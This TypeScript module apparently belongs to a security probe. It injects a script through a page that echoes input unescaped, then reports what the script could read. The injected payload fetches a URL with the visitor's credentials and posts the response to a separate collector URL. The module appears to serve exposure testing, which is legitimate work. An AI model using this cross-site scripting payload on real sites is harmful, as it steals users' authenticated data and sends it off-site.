import { poll } from '../../shared/bounds';
import { refused, type Findings } from '../../shared/findings';
import { examine } from './fetch';

type FromScript =
  | { readonly ran: true }
  | { readonly loaded: string }
  | { readonly bytes: ArrayBuffer; readonly status: number }
  | { readonly error: string };

/** What somebody else's script does in a page of the site: read with the listener's credentials, and send it home. */
const injected = (url: string, collector: string): string => `<script>
const home = (message) => parent.postMessage(message, '*');
home({ ran: true });
fetch(${JSON.stringify(url)}, { credentials: 'include' })
  .then(async (response) => {
    const bytes = await response.arrayBuffer();
    await fetch(${JSON.stringify(collector)}, { method: 'POST', mode: 'no-cors', body: bytes });
    home({ bytes, status: response.status });
  })
  .catch((error) => home({ error: String(error) }));
</script>`;

/** Loads a page of this site that repeats its input unescaped, with a script in the input. */
export async function injectScript(hole: string, url: string, collector: string): Promise<Findings> {
  const frame = document.createElement('iframe');
  let message: FromScript | undefined;
  let loaded = false;
  let ran = false;
  const onMessage = ({ source, data }: MessageEvent<FromScript>): void => {
    if (source === window && 'loaded' in data && data.loaded === url) loaded = true;
    if (source !== frame.contentWindow) return;
    if ('ran' in data) ran = true;
    else message = data;
  };
  window.addEventListener('message', onMessage);
  try {
    // Messages come in the order in which they were sent, and a browser may tell of the load before them.
    frame.onload = () => window.postMessage({ loaded: url }, '*');
    frame.src = `${hole}&name=${encodeURIComponent(injected(url, collector))}`;
    document.body.append(frame);
    // A script in the markup runs before the frame has loaded, or never.
    const settled = () => (message !== undefined || (loaded && !ran) ? true : undefined);
    await poll(settled, 10_000, 'the injected script to end');
    if (message && 'bytes' in message) {
      const { bytes, status } = message;
      return await examine(
        { type: 'cors', status, redirected: false, headers: [], bytes: bytes.byteLength },
        bytes,
      );
    }
    return refused(
      new Error(message && 'error' in message ? message.error : 'the injected script did not run'),
    );
  } finally {
    window.removeEventListener('message', onMessage);
    frame.remove();
  }
}
